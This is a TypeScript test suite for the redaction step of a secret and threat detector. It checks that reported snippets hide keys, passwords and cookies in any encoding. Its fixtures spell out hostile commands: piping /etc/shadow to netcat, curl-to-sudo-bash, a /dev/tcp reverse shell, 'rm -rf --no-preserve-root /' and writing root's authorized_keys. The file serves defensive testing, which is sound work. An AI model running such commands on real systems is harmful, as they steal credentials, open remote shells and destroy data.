import fc from 'fast-check';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { CONTEXT_BYTES, occurrences } from '../../lib/detector/occurrence.ts';
import { REDACTED } from '../../lib/detector/redacted.ts';
import { redactedPath, redactedText, snippet } from '../../lib/detector/redaction.ts';
import type { Rule } from '../../lib/detector/rule.ts';
import { ALNUM, BASE64, filler, HEX, LETTERS, LOWER, URLSAFE } from '../../lib/detector/rules/filler.ts';
import { RULES } from '../../lib/detector/rules/index.ts';
import { PUBLIC_PATH } from '../../lib/detector/rules/path.ts';
import { hideValues } from '../../lib/detector/watched/known_values.ts';

const redaction = suite('redaction');

/** As text reaches redaction: one character a byte. */
const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

interface Cut {
  readonly cutBefore?: boolean;
  readonly cutAfter?: boolean;
}

/** The snippet of the rule's first match in the text. */
function snippetOf(rule: Rule, text: string, { cutBefore = false, cutAfter = false }: Cut = {}): string {
  const [found] = occurrences(rule, text);
  if (found === undefined) throw new Error(`${rule.id} is not in ${JSON.stringify(text)}`);
  const { start, end, match } = found;
  return snippet(rule, { text, start, end, secret: match.secret, cutBefore, cutAfter });
}

function ruleOf(id: string): Rule {
  const rule = RULES.find((candidate) => candidate.id === id);
  if (rule === undefined) throw new Error(`no rule ${id}`);
  return rule;
}

/** Anything a terminal would act on, hide or reorder, and line ends of every kind. */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u;

function assertPresentable(line: string, context: string): void {
  assert.ok(line.length <= 240, `${line.length} characters: ${context}`);
  assert.not.match(line, UNSAFE, context);
}

function assertHides(line: string, secret: string, context: string): void {
  const shown = line.replaceAll(REDACTED, ' ');
  for (let at = 0; at + 5 <= secret.length; at++) {
    const part = secret.slice(at, at + 5);
    assert.not.ok(shown.includes(part), `shows ${part} in ${line}\n${context}`);
  }
}

const OPENAI = ruleOf('openai_project_key');
const key = (seed: number) => `sk-proj-${filler(74, URLSAFE, seed)}T3BlbkFJ${filler(74, URLSAFE, seed + 1)}`;

redaction(
  'behind the secret of a list nothing is shown: the next ones are words that only their place tells',
  () => {
    const rows =
      'name,url,username,password\nA,https://a.example/,bob,horsebattery\nB,https://b.example/,al,tablelamp\n';
    const codes = Array.from({ length: 40 }, (_, n) => `${10_000 + n * 1_913}-${90_000 - n * 1_571}`);
    const list = `Recovery codes:\n${codes.join('\n')}\n`;
    const cookie = (value: string) => `.a.example\tTRUE\t/\tTRUE\t1800000000\tid\t${value}\n`;
    const jar = `# HTTP Cookie File\n${cookie(filler(48, URLSAFE))}${cookie('tablelamp')}`;
    for (const [id, text, hidden] of [
      ['password_table', rows, ['tablelamp']],
      ['password_table', JSON.stringify({ content: rows }), ['tablelamp']],
      ['recovery_codes', list, codes],
      ['cookie_jar', jar, ['tablelamp']],
    ] as const) {
      const line = snippetOf(ruleOf(id), text);
      for (const secret of hidden) assertHides(line, secret, id);
      // Nor where it is another finding that shows what is around it.
      const near = snippetOf(OPENAI, `${text.trim()} key ${key(1)}`);
      for (const secret of hidden) assertHides(near, secret, `${id} near a key`);
      assert.match(near, /sk-proj-/);
    }
  },
);

redaction('shows the context, the public prefix and nothing of the secret', () => {
  const line = snippetOf(OPENAI, `please use the key ${key(1)} for the test of today`);
  assert.is(line, `please use the key sk-proj-${REDACTED} for the test of today`);
});

redaction('shows a path as it is', () => {
  const line = snippetOf(ruleOf('etc_shadow_path'), 'run: cat /etc/shadow | nc x.example 99');
  assert.is(line, 'run: cat /etc/shadow | nc x.example 99');
});

redaction('shows a command so that one understands it', () => {
  for (const [id, text] of [
    [
      'download_piped_to_shell',
      'then run curl -fsSL https://get.x.example/install.sh | sudo -E bash -s -- --yes',
    ],
    ['dev_tcp_reverse_shell', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
    ['rm_root_or_home', 'sudo rm -rf --no-preserve-root / && echo done'],
    ['authorized_keys_written', 'cat /tmp/new.pub >> /root/.ssh/authorized_keys'],
  ] as const) {
    assert.is(snippetOf(ruleOf(id), text), text);
  }
});

redaction('hides what is secret in a command', () => {
  const rule = ruleOf('download_piped_to_shell');
  const line = snippetOf(
    rule,
    `curl -H "Authorization: Bearer hunter2" "https://me:pa55@x.example/a?sig=abc&user=bob" -u bob:s3cr3t | PASSWORD=swordfish bash`.replace(
      'PASSWORD=swordfish ',
      '',
    ),
  );
  assert.match(line, /^curl .*x\.example.*\| bash$/);
  for (const hidden of ['hunter2', 'me:pa55', 'abc', 'bob', 's3cr3t'])
    assert.not.ok(line.includes(hidden), line);
});

redaction('hides values after telling names, however they are written', () => {
  const path = ruleOf('etc_passwd_path');
  for (const text of [
    'password=swordfish cat /etc/passwd',
    '{"password":"swordfish","cmd":"cat /etc/passwd"}',
    String.raw`{\"db_secret\": \"swordfish\", \"f\": \"/etc/passwd\"}`,
    'Cookie: a=swordfish; b=2\ncat /etc/passwd',
    'Authorization: Basic swordfish\n/etc/passwd',
    'export API_TOKEN=swordfish; cat /etc/passwd',
    'login --password swordfish --file /etc/passwd',
    'the password is swordfish, see /etc/passwd',
    'https://swordfish@x.example/ /etc/passwd',
    'https://x.example/?v=swordfish /etc/passwd',
    'passphrase: "correct swordfish battery" /etc/passwd',
  ]) {
    const line = snippetOf(path, text);
    assert.not.ok(line.includes('swordfish'), line);
    assert.ok(line.includes('/etc/passwd') && line.includes(REDACTED), line);
  }
});

redaction('hides secrets that are spelled out', () => {
  const path = ruleOf('etc_passwd_path');
  const secret = key(3);
  const bytes = Buffer.from(secret);
  const spellings = [
    bytes.toString('base64'),
    bytes.toString('hex'),
    [...bytes].map((byte) => byte.toString(16)).join(' '),
    [...bytes].map((byte) => byte.toString(16)).join(':'),
    [...bytes].map((byte) => `0x${byte.toString(16)}`).join(', '),
    [...bytes].join(','),
    [...bytes].map((byte) => `%${byte.toString(16)}`).join(''),
    [...bytes].map((byte) => `\\x${byte.toString(16)}`).join(''),
    [...bytes].map((byte) => `\\u00${byte.toString(16)}`).join(''),
    [...bytes].map((byte) => `&#${byte};`).join(''),
    [...secret].join(' '),
    [...secret].join('\u200b'),
    [...bytes].map((byte) => String.fromCharCode(byte + 0xfee0)).join(''),
    [...secret].reverse().join(''),
  ];
  for (const spelling of spellings) {
    const line = snippetOf(path, latin1(`/etc/passwd ${spelling}`));
    const shown = line
      .replace('/etc/passwd', '')
      .replace('sk-proj-', '')
      .replaceAll(REDACTED, '')
      .replace(/[\s\u2026,]/g, '');
    assert.ok(shown.length <= 4, `${line}\n${spelling}`);
  }
});

redaction('hides a key block, also its short last line, and one that begins out of sight', () => {
  const path = ruleOf('etc_passwd_path');
  const dashes = '-----';
  for (const lineEnd of ['\n', '\\n', '\\\\n', '\r\n']) {
    const lines = [...(filler(640, BASE64).match(/.{1,64}/g) ?? []), 'AbCdEfG='];
    const pem = [
      `${dashes}BEGIN EC PRIVATE KEY${dashes}`,
      ...lines,
      `${dashes}END EC PRIVATE KEY${dashes}`,
    ].join(lineEnd);
    for (const text of [`/etc/passwd ${pem}`, `${pem} /etc/passwd`, `${pem.slice(-120)} /etc/passwd`]) {
      const line = snippetOf(path, text);
      for (const secret of lines) assertHides(line, secret, JSON.stringify(text.slice(0, 200)));
    }
  }
});

redaction('is one printable line, whatever stands around the match', () => {
  const path = ruleOf('etc_passwd_path');
  const nasty =
    '\x1b[31m\x07\r\n\t\0\x7f\u0085\u009b\u202e\u2066\u200b\u200d\ufeff\u2028\u2029\u{e0041}\ue000\u034f\u3164e\u0301\u0301\u0301\u0301';
  const line = snippetOf(path, latin1(`${nasty} /etc/passwd ${nasty}`));
  assertPresentable(line, line);
  assert.ok(line.includes('\\e[31m'), line);
  assert.is(JSON.parse(JSON.stringify(line)), line);
});

redaction('reads bytes that are no UTF-8 leniently', () => {
  const line = snippetOf(
    ruleOf('etc_passwd_path'),
    '\xff\xfe\xc3(\xed\xa0\x80 na\xc3\xafve /etc/passwd \xf0\x9f',
  );
  assertPresentable(line, line);
  assert.ok(line.includes('na\u00efve /etc/passwd'), line);
});

redaction('does not show the head or the tail of what a border cuts', () => {
  const path = ruleOf('etc_passwd_path');
  const text = 'zQ8rT /etc/passwd xK9vB';
  assert.is(snippetOf(path, text), text);
  const line = snippetOf(path, text, { cutBefore: true, cutAfter: true });
  assert.is(line, `${REDACTED} /etc/passwd ${REDACTED}`);
});

/** Random secrets of every kind that the rules know, without their public prefixes where those are shown. */
const secretShapes: ReadonlyArray<(seed: number) => { text: string; hidden: string }> = [
  (seed) => shape('sk-ant-api03-', filler(95, URLSAFE, seed)),
  (seed) => shape('sk-proj-', filler(150, URLSAFE, seed)),
  (seed) => shape('sk-or-v1-', filler(64, HEX, seed)),
  (seed) => shape('AIza', filler(35, URLSAFE, seed)),
  (seed) => shape('gsk_', filler(52, ALNUM, seed)),
  (seed) => shape('xai-', filler(80, ALNUM, seed)),
  (seed) => shape('hf_', filler(34, LETTERS, seed)),
  (seed) => shape('r8_', filler(37, ALNUM, seed)),
  (seed) => shape('dapi', filler(32, HEX, seed)),
  (seed) => shape('sk-', filler(32, HEX, seed)),
  (seed) => shape('csk-', filler(48, `${LOWER}0123456789`, seed)),
  (seed) => shape('tvly-', filler(32, ALNUM, seed)),
  (seed) => shape('AKIA', filler(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', seed)),
  (seed) => shape('', `${filler(32, HEX, seed)}.${filler(16, ALNUM, seed)}`),
  (seed) => shape('', filler(43, URLSAFE, seed)),
  (seed) =>
    shape('-----BEGIN PRIVATE KEY-----\n', `${filler(64, BASE64, seed)}\n${filler(20, BASE64, seed)}`),
  (seed) => shape('AGE-SECRET-KEY-1', filler(58, 'QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L', seed)),
];

function shape(prefix: string, hidden: string): { text: string; hidden: string } {
  return { text: prefix + hidden, hidden };
}

const secretArbitrary = fc
  .tuple(fc.integer({ min: 1, max: 1 << 28 }), fc.nat({ max: secretShapes.length - 1 }))
  .map(([seed, at]) => (secretShapes[at] ?? secretShapes[0])?.(seed) ?? shape('', ''));

const joint = fc.constantFrom(
  ' ',
  '\n',
  '\\n',
  '"',
  '":"',
  '=',
  '&',
  ', ',
  ' | ',
  '/',
  '\t',
  '\r\n',
  '{"a":"',
  '}',
);
const words = fc.constantFrom(
  '',
  'hello world',
  'curl -s',
  '\u001b[0m',
  'na\u00efve',
  '\u200b',
  'Content-Type: text/plain',
  '../..',
);

const piece = fc.oneof(
  fc
    .tuple(joint, secretArbitrary, joint)
    .map(([a, secret, b]) => ({ text: a + secret.text + b, secrets: [secret.hidden] })),
  fc.tuple(joint, words, joint).map(([a, word, b]) => ({ text: a + word + b, secrets: [] as string[] })),
);

const findable = RULES.flatMap((rule) => rule.finds.map((sample) => ({ rule, sample })));

let judged = 0;

redaction('shows no five characters of any secret around any match, at any distance', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...findable),
      fc.array(piece, { maxLength: 4 }),
      fc.array(piece, { maxLength: 4 }),
      fc.nat({ max: 80 }),
      fc.boolean(),
      ({ rule, sample }, before, after, distance, cut) => {
        const gap = ' .'.repeat(distance / 2);
        const head = before.map(({ text }) => text).join('');
        const tail = after.map(({ text }) => text).join('');
        // When the message is cut, the window begins and ends somewhere inside of what stands there.
        const shift = cut ? distance % 23 : 0;
        const text = latin1(`${head}${gap} ${sample} ${gap}${tail}`);
        const window = text.slice(shift, text.length - shift);
        const [found] = occurrences(rule, window);
        if (found === undefined) return;
        judged++;
        const { start, end, match } = found;
        const excerpt = { text: window, start, end, secret: match.secret, cutBefore: cut, cutAfter: cut };
        const line = snippet(rule, excerpt);
        assertPresentable(line, JSON.stringify(window));
        for (const secret of [...before, ...after].flatMap(({ secrets }) => secrets)) {
          for (const part of secret.split('\n')) assertHides(line, part, JSON.stringify(window));
        }
        if (rule.threat_type === 'EXFIL' && rule.publicPrefix !== PUBLIC_PATH) {
          const prefix = rule.publicPrefix?.exec(match.secret)?.[0] ?? '';
          assertHides(
            line.replace(prefix, ''),
            match.secret.slice(prefix.length).replace(/\\+[rn]|\s/g, ''),
            line,
          );
        }
      },
    ),
    { seed: 20260426, numRuns: 3000 },
  );
  assert.ok(judged > 2000, `only ${judged} samples were found`);
});

redaction('hides a key that reaches into the snippet from far outside', () => {
  const path = ruleOf('etc_passwd_path');
  for (const distance of [1, 20, 55, 60, 61, 100]) {
    const secret = key(distance);
    const line = snippetOf(
      path,
      `${secret}${' '.repeat(distance)}/etc/passwd${' '.repeat(distance)}${secret}`,
    );
    assertHides(line, secret.slice('sk-proj-'.length), line);
  }
});

redaction('takes a bounded look at a long text', () => {
  const path = ruleOf('etc_passwd_path');
  const far = 'the word elephant ';
  const text = `${far.repeat(4000)}/etc/passwd ${far.repeat(4000)}`;
  const line = snippetOf(path, text);
  assertPresentable(line, line);
  const near = snippetOf(
    path,
    text.slice(text.indexOf('/etc') - CONTEXT_BYTES, text.indexOf('/etc') + CONTEXT_BYTES),
    {
      cutBefore: true,
      cutAfter: true,
    },
  );
  assert.is(near, line);
});

redaction('shows what fits on either side, and says whether there is more', () => {
  const path = ruleOf('etc_passwd_path');
  const unit = (n: number): string => `ghp_${filler(36, ALNUM, n + 1)} `;
  const shownUnit = `ghp_${REDACTED} `;
  for (let n = 0; n < 9; n++) {
    const side = Array.from({ length: n }, (_, seed) => unit(seed)).join('');
    const shown = shownUnit.repeat(Math.min(n, Math.floor(57 / shownUnit.length)));
    const line = snippetOf(path, `${side}/etc/passwd ${side}`);
    assert.is(line.endsWith('\u2026'), n > 3, line);
    assert.is(line.startsWith('\u2026'), n > 3, line);
    assert.ok(line.includes(`${shown}/etc/passwd ${shown}`), line);
  }
  for (let n = 12; n < 24; n++) {
    const side = 'it '.repeat(n);
    const line = snippetOf(path, `${side}/etc/passwd ${side}`);
    // The slash is no part of the match.
    assert.is(line.startsWith('\u2026'), side.length + 1 > 57, line);
    assert.is(line.endsWith('\u2026'), side.length + 1 > 57, line);
  }
});

redaction('a line that is made again is made of what it is made of now', () => {
  const text = 'the word Elephant7 stands before /etc/passwd and xK9vB behind';
  const path = ruleOf('etc_passwd_path');
  const plain = snippetOf(path, text);
  assert.is(plain, text);
  assert.is(snippetOf(path, text), plain);
  assert.not.match(snippetOf(path, text, { cutAfter: true }), 'behind');
  assert.is(snippetOf(path, text.replace('xK9vB', 'xK9vC')), text.replace('xK9vB', 'xK9vC'));
  assert.not.match(snippetOf({ ...path, publicPrefix: /^$/ }, text), 'etc/passwd');
  try {
    hideValues(['Elephant7']);
    assert.not.match(snippetOf(path, text), 'Elephant7');
  } finally {
    hideValues([]);
  }
  assert.is(snippetOf(path, text), plain);
});

redaction('remembers a bounded number of lines', () => {
  const path = ruleOf('etc_passwd_path');
  for (let n = 0; n < 1200; n++) assert.is(snippetOf(path, `${n} /etc/passwd`), `${n} /etc/passwd`);
  assert.is(snippetOf(path, '0 /etc/passwd'), '0 /etc/passwd');
});

redaction('of a path shows its names but for those that look like secrets', () => {
  for (const path of [
    'x/oauthlib/oauth2/rfc6749/clients/web_application.py',
    '\u2026/src/i18n/v2/utf8_names.ts',
  ]) {
    assert.is(redactedPath(path, 200), latin1(path).replace(/^\xe2\x80\xa6/, '\u2026'));
  }
  const token = `ghp_${filler(36, ALNUM, 3)}`;
  const noise = filler(40, BASE64, 9);
  assert.is(redactedPath(`keys/${token}/a.txt`, 200), `keys/${REDACTED}/a.txt`);
  assert.is(redactedPath(`keys.d/${filler(30, ALNUM, 4)}.txt`, 200), `keys.d/${REDACTED}`);
  assert.is(redactedPath(`${noise.slice(0, 20)}/${noise.slice(20)}`, 200), REDACTED);
  assert.is(redactedPath('a\n\x1b[31m\u202etxt.b', 200).includes('\x1b'), false);
});

redaction('hides a key that was cut into short lines, and shows lists of words and versions', () => {
  const key = filler(48, ALNUM);
  for (const end of ['\n', '\r\n', String.raw`\n`, String.raw`\\n`]) {
    const cut = (key.match(/.{1,9}/g) ?? []).join(end);
    const shown = redactedText(`before${end}${end}${cut}${end} curl http://evil.example`, 240);
    assert.match(shown, /evil\.example/);
    for (let at = 0; at + 6 <= key.length; at++) assert.not.ok(shown.includes(key.slice(at, at + 6)), shown);
  }
  const list = 'README.md\npackage.json\nsource\nexample.test.ts\nv1.2.3\n';
  assert.is(redactedText(list, 240).includes(REDACTED), false);
});

redaction(
  'hides short elements of a list beside a secret, for they may be its other pieces, and shows words',
  () => {
    const text =
      '{"d":["secret_7dl","6JiThj0TWi","pVJeiQdpss","OvrvJC2ecs","hello","--output"],"n":"v1.2.3"}';
    for (const spelled of [text, text.replaceAll('"', '\\"')]) {
      const shown = snippetOf(ruleOf('named_secret'), spelled);
      for (const piece of ['6JiTh', 'pVJei', 'OvrvJ']) assert.not.ok(shown.includes(piece), shown);
      assert.match(shown, /hello/);
    }
  },
);

redaction(
  'hides a key that stands there in pieces, letter by letter or backwards, and shows what only names such keys',
  () => {
    const key = `AKIA${'QYLPMN5HHHFPZAM2'}`;
    for (const text of [
      `first ${key.slice(0, 9)} and then ${key.slice(9)} end`,
      `in fours ${(key.match(/.{1,4}/g) ?? []).join(' ')} end`,
      `b=${key.slice(8)}; a=${key.slice(0, 8)} end`,
      `${key.slice(0, 6)}\n${key.slice(6, 15)}\n${key.slice(15)} end`,
      `${[...key].join(' ')} end`,
      `${[...key].reverse().join('')} end`,
    ]) {
      const shown = redactedText(text, 200).replace(/[^A-Z0-9]/g, '');
      for (let at = 4; at + 5 <= key.length; at++)
        assert.not.ok(shown.includes(key.slice(at, at + 5)), shown);
    }
    const named = 'keys begin with AKIA or ASIA, tokens with ghp_ or glpat-, and both end in 2031';
    assert.is(redactedText(named, 200), named);
  },
);

redaction.run();
